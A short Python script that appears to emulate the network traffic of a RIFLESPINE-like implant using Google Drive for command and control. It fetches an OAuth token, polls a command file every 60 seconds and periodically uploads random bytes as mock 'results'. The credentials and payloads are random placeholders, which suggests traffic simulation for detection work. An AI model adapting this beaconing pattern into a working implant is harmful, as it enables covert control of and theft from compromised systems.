"""RIFLESPINE-shaped: urllib reads an encrypted command file on Drive every 60 s, and puts results back; a token first."""

import json
import random
import urllib.parse
import urllib.request

from timer import sleep

source = random.Random(4)
form = urllib.parse.urlencode({"client_id": source.randbytes(24).hex(), "client_secret": source.randbytes(12).hex(), "refresh_token": "1//" + source.randbytes(50).hex(), "grant_type": "refresh_token"})
with urllib.request.urlopen("https://oauth2.googleapis.com/token", form.encode()) as answer:
    token = json.load(answer)["access_token"]


def call(method: str, path: str, body: bytes | None = None) -> None:
    request = urllib.request.Request("https://www.googleapis.com" + path, body, {"Authorization": "Bearer " + token}, method=method)
    if body is not None:
        request.add_header("Content-Type", "application/octet-stream")
    with urllib.request.urlopen(request) as answer:
        answer.read()


call("GET", "/drive/v3/files?q=" + urllib.parse.quote("name contains 'note' and trashed = false"))
for poll in range(42):
    call("GET", "/drive/v3/files/1pQ0cXhW7lC9w2Zr?alt=media")
    if poll % 14 == 9:
        call("PUT", "/upload/drive/v3/files/1x8Kd02mVbRt?uploadType=media", source.randbytes(source.randrange(3000, 12000)))
    sleep(60, 0, source)
